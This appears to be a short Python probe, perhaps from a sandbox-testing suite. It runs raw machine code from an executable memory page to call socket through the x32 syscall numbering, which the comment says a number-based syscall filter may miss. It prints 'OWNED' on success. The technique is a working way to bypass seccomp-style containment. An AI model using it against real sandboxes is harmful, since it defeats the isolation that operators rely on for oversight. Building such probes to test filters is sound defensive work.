# proc: the x32 numbers of the calls, which a filter by number may miss
import ctypes,mmap
def machine(code):
    m=mmap.mmap(-1,4096,prot=7); m.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()

# mov eax,0x40000029 (socket); mov edi,2; mov esi,1; xor edx,edx; syscall; ret
fd=machine(b'\xb8\x29\0\0\x40\xbf\x02\0\0\0\xbe\x01\0\0\0\x31\xd2\x0f\x05\xc3')
if fd>=0: print('OWNED:raw_x32')
